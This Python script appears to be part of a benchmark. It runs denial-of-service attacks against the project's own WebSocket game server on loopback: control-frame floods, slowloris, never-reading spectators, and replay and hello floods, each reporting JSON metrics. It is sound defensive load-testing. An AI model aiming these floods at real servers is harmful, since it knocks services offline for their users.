"""The attacks of ``bench/abuse.py``, run in a process of their own so the attacker is never held
back by the benchmark's event loop (nor the honest room's timing by the attacker's):

    python bench/abuse_attacks.py KIND --host 127.0.0.1 --port 8000 --room ROOM --seconds 60

KIND is one of ``ATTACKS``. Each attack runs for ``--seconds`` and ends by itself, then prints one
JSON line of what it did (bytes sent, connections made and closed by the server, answers and their
times). Every socket is a raw asyncio stream: the WebSocket handshake and frames are written by
hand (masked, as a client must), and nothing is read that the attack does not mean to read.
"""

from __future__ import annotations

import argparse
import asyncio
import base64
import contextlib
import json
import os
import resource
import socket
import time
from collections.abc import Awaitable, Callable
from dataclasses import asdict, dataclass, field
from typing import Any, cast

import uvloop

ATTACKS = ("ping125", "ping0", "continuation", "slowloris", "readers", "replays", "hellos")
# One chunk of frames per write: large enough that the flood is never bounded by the loop's turns.
CHUNK_BYTES = 64 * 1024
# The stranger's own address: a loopback address of its own, not 127.0.0.1 (the server's default
# trusted proxy, exempt from the per-address limits) and not the honest players' or newcomer's.
ATTACKER_ADDRESS = "127.0.0.2"
MASK = b"\x11\x22\x33\x44"


@dataclass
class Report:
    kind: str
    seconds: float = 0.0
    connections: int = 0  # sockets opened (handshake done for WebSocket attacks)
    connect_failures: int = 0
    closed_by_server: int = 0  # sockets the server closed (or reset) during the attack
    bytes_sent: int = 0
    first_close_after: float | None = None  # seconds from the start until the server first closed one
    answers: dict[str, int] = field(default_factory=dict)  # HTTP status or outcome -> count
    latencies_ms: list[float] = field(default_factory=list)
    extra: dict[str, Any] = field(default_factory=dict)


def masked(payload: bytes) -> bytes:
    return bytes(b ^ MASK[i % 4] for i, b in enumerate(payload))


def frame(opcode: int, payload: bytes = b"", fin: bool = True) -> bytes:
    """A client frame (masked; payloads under 126 bytes, or text up to 65,535)."""
    head = bytes([(0x80 if fin else 0) | opcode])
    size = len(payload)
    if size < 126:
        head += bytes([0x80 | size])
    else:
        head += bytes([0x80 | 126]) + size.to_bytes(2, "big")
    return head + MASK + masked(payload)


def repeated(one: bytes) -> bytes:
    return one * max(1, CHUNK_BYTES // len(one))


async def handshake(host: str, port: int, room: str, rcvbuf: int | None = None,
                    timeout: float = 15.0) -> tuple[asyncio.StreamReader, asyncio.StreamWriter]:
    """A WebSocket upgrade on ``/ws/{room}`` with no Origin (not a browser) and no extension."""
    sock = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    sock.setblocking(False)
    sock.bind((ATTACKER_ADDRESS, 0))
    if rcvbuf is not None:
        # Set before connecting, so the window offered to the server stays this small.
        sock.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, rcvbuf)
    loop = asyncio.get_running_loop()
    try:
        await asyncio.wait_for(loop.sock_connect(sock, (host, port)), timeout)
        reader, writer = await asyncio.open_connection(sock=sock)
    except BaseException:
        sock.close()
        raise
    key = base64.b64encode(os.urandom(16)).decode()
    writer.write((f"GET /ws/{room} HTTP/1.1\r\nHost: {host}:{port}\r\nUpgrade: websocket\r\n"
                  f"Connection: Upgrade\r\nSec-WebSocket-Key: {key}\r\n"
                  "Sec-WebSocket-Version: 13\r\n\r\n").encode())
    try:
        head = await asyncio.wait_for(reader.readuntil(b"\r\n\r\n"), timeout)
    except BaseException:
        writer.close()
        raise
    if not head.startswith(b"HTTP/1.1 101"):
        writer.close()
        raise ConnectionError(head.split(b"\r\n", 1)[0].decode(errors="replace"))
    return reader, writer


def reading(writer: asyncio.StreamWriter, on: bool) -> None:
    """Stop (or resume) reading the socket at all: what the server sends stays in its buffers."""
    # uvloop's transports read and write, without deriving from asyncio's classes.
    transport = cast(asyncio.Transport, writer.transport)
    if on:
        transport.resume_reading()
    else:
        transport.pause_reading()


def hello(token: str | None = None) -> bytes:
    return frame(0x1, json.dumps({"type": "hello", "token": token}).encode())


class Attack:
    def __init__(self, args: argparse.Namespace) -> None:
        self.args = args
        self.report = Report(args.kind)
        self.started = time.perf_counter()
        self.end = self.started + float(args.seconds)

    def left(self) -> float:
        return self.end - time.perf_counter()

    def server_closed(self) -> None:
        self.report.closed_by_server += 1
        if self.report.first_close_after is None:
            self.report.first_close_after = round(time.perf_counter() - self.started, 3)

    def count(self, answer: str) -> None:
        self.report.answers[answer] = self.report.answers.get(answer, 0) + 1

    async def until_end(self, step: Callable[[], Awaitable[None]]) -> None:
        with contextlib.suppress(TimeoutError):
            async with asyncio.timeout(max(0.0, self.left())):
                await step()

    # -- one socket flooding control frames at line rate ---------------------------------------

    async def flood(self) -> None:
        """One socket, no hello, never reading: control frames (or empty continuations of a text
        message left open) written as fast as the connection drains, until the time is up or the
        server closes it."""
        kind = self.args.kind
        if kind == "ping125":
            chunk = repeated(frame(0x9, bytes(range(125))))
        elif kind == "ping0":
            chunk = repeated(frame(0x9))
        else:
            chunk = repeated(frame(0x0, fin=False))
        _, writer = await handshake(self.args.host, self.args.port, self.args.room)
        reading(writer, False)  # never read: the pongs stay in the server
        self.report.connections += 1
        try:
            if kind == "continuation":
                # The text message the empty continuations belong to, never finished.
                writer.write(frame(0x1, b"{", fin=False))

            async def pour() -> None:
                while True:
                    writer.write(chunk)
                    self.report.bytes_sent += len(chunk)
                    await writer.drain()

            try:
                await self.until_end(pour)
            except (ConnectionError, OSError):
                self.server_closed()
        finally:
            writer.transport.abort()

    # -- slowloris ----------------------------------------------------------------------------

    async def slowloris(self) -> None:
        """``--connections`` HTTP requests whose headers come a byte at a time and never end; a
        socket the server closes is opened again, so the count holds for the whole attack."""
        request = (f"GET /r/{self.args.room} HTTP/1.1\r\nHost: {self.args.host}:{self.args.port}\r\n"
                   "User-Agent: slow\r\n").encode() + b"X-Slow: " + b"a" * 100_000
        open_now = [0]
        peak = [0]

        async def one(index: int) -> None:
            # Spread the sockets' bytes over each second (a byte a second each).
            await asyncio.sleep(index / max(1, self.args.connections))
            while self.left() > 0:
                try:
                    reader, writer = await asyncio.wait_for(
                        asyncio.open_connection(self.args.host, self.args.port,
                                                local_addr=(ATTACKER_ADDRESS, 0)), max(0.1, self.left()))
                except (OSError, TimeoutError):
                    self.report.connect_failures += 1
                    await asyncio.sleep(min(1.0, max(0.0, self.left())))
                    continue
                self.report.connections += 1
                open_now[0] += 1
                peak[0] = max(peak[0], open_now[0])
                # Any answer or the end of the stream: the server gave up on this request.
                answered = asyncio.ensure_future(reader.read(1))
                try:
                    for byte in request:
                        if self.left() <= 0 or answered.done():
                            break
                        writer.write(bytes([byte]))
                        self.report.bytes_sent += 1
                        await asyncio.wait({answered}, timeout=min(1.0, max(0.0, self.left())))
                    if answered.done() and self.left() > 0:
                        self.server_closed()
                except (ConnectionError, OSError):
                    self.server_closed()
                finally:
                    answered.cancel()
                    open_now[0] -= 1
                    writer.transport.abort()

        await asyncio.gather(*(one(i) for i in range(self.args.connections)))
        self.report.extra["peak_open"] = peak[0]

    # -- spectators that never read -----------------------------------------------------------

    async def readers(self) -> None:
        """``--connections`` spectators of the honest room that say hello and never read a byte
        (a small receive buffer, so what they do not read stays in the server)."""
        writers: list[asyncio.StreamWriter] = []
        readers: list[asyncio.StreamReader] = []
        for _ in range(self.args.connections):
            try:
                reader, writer = await handshake(self.args.host, self.args.port, self.args.room, rcvbuf=4096)
            except (OSError, TimeoutError, ConnectionError):
                self.report.connect_failures += 1
                continue
            writer.write(hello())
            reading(writer, False)  # never read
            self.report.connections += 1
            writers.append(writer)
            readers.append(reader)
        await asyncio.sleep(max(0.0, self.left()))

        async def closed(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> bool:
            """Whether the server has closed this socket: read what it left, up to its end."""
            reading(writer, True)
            try:
                async with asyncio.timeout(3):
                    while await reader.read(65536):
                        pass
            except TimeoutError:
                return False
            except (ConnectionError, OSError):
                return True
            return True

        gone = await asyncio.gather(*(closed(r, w) for r, w in zip(readers, writers, strict=True)))
        self.report.closed_by_server = sum(gone)
        for writer in writers:
            writer.transport.abort()

    # -- replays of a long table ---------------------------------------------------------------

    async def replays(self) -> None:
        """``--rate`` replay pages a minute of game 1 of ``--room`` (each request on its own
        schedule, not waiting for the one before), from the first page to the last and round."""
        import httpx

        start = 0
        length = None
        tasks: list[asyncio.Task[None]] = []
        async with httpx.AsyncClient(base_url=f"http://{self.args.host}:{self.args.port}",
                                     timeout=max(1.0, self.args.seconds + 30),
                                     limits=httpx.Limits(max_connections=1000)) as http:

            async def fetch(page: int) -> None:
                nonlocal length
                sent = time.perf_counter()
                try:
                    answer = await http.get(f"/api/rooms/{self.args.room}/games/1/replay",
                                            params={"start": page})
                except httpx.HTTPError as error:
                    self.count(type(error).__name__)
                    return
                self.report.latencies_ms.append(round((time.perf_counter() - sent) * 1000, 1))
                self.count(str(answer.status_code))
                if answer.status_code == 200 and length is None:
                    length = answer.json()["length"]
                    self.report.extra["length"] = length

            interval = 60.0 / self.args.rate
            due = time.perf_counter()
            while self.left() > 0:
                tasks.append(asyncio.create_task(fetch(start)))
                self.report.connections += 1
                start = start + 200 if length is not None and start + 200 < length else 0
                due += interval
                await asyncio.sleep(max(0.0, due - time.perf_counter()))
            # The answers still on their way are waited for a while (their times are the cost).
            if tasks:
                await asyncio.wait(tasks, timeout=30)
            for task in tasks:
                task.cancel()

    # -- spectator hellos ---------------------------------------------------------------------

    async def hellos(self) -> None:
        """``--rate`` spectators a second: upgrade, hello, the first frame back, close."""
        tasks: list[asyncio.Task[None]] = []

        async def visit() -> None:
            sent = time.perf_counter()
            try:
                reader, writer = await handshake(self.args.host, self.args.port, self.args.room, timeout=10)
            except (OSError, TimeoutError, ConnectionError) as error:
                self.report.connect_failures += 1
                self.count(type(error).__name__)
                return
            try:
                writer.write(hello())
                await asyncio.wait_for(reader.read(1), 10)
                self.report.latencies_ms.append(round((time.perf_counter() - sent) * 1000, 1))
                self.count("welcome")
                writer.write(frame(0x8, (1000).to_bytes(2, "big")))
                await writer.drain()
            except (OSError, TimeoutError, ConnectionError) as error:
                self.count(type(error).__name__)
            finally:
                writer.transport.abort()

        interval = 1.0 / self.args.rate
        due = time.perf_counter()
        while self.left() > 0:
            task = asyncio.create_task(visit())
            tasks.append(task)
            self.report.connections += 1
            due += interval
            await asyncio.sleep(max(0.0, due - time.perf_counter()))
        if tasks:
            await asyncio.wait(tasks, timeout=15)
        for task in tasks:
            task.cancel()

    async def run(self) -> Report:
        kind = self.args.kind
        if kind in ("ping125", "ping0", "continuation"):
            await self.flood()
        else:
            await getattr(self, kind)()
        self.report.seconds = round(time.perf_counter() - self.started, 3)
        return self.report


async def main() -> None:
    parser = argparse.ArgumentParser(description=__doc__,
                                     formatter_class=argparse.RawDescriptionHelpFormatter)
    parser.add_argument("kind", choices=ATTACKS)
    parser.add_argument("--host", default="127.0.0.1")
    parser.add_argument("--port", type=int, required=True)
    parser.add_argument("--room", required=True, help="the room the sockets and requests name")
    parser.add_argument("--seconds", type=float, default=60.0)
    parser.add_argument("--connections", type=int, default=1000,
                        help="slowloris sockets, or never-reading spectators")
    parser.add_argument("--rate", type=float, default=60.0, help="replays a minute, or hellos a second")
    args = parser.parse_args()
    # A thousand sockets and more: as many files as the hard limit allows.
    _, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))
    attack = Attack(args)
    report = await attack.run()
    print(json.dumps(asdict(report)), flush=True)


if __name__ == "__main__":
    uvloop.run(main())
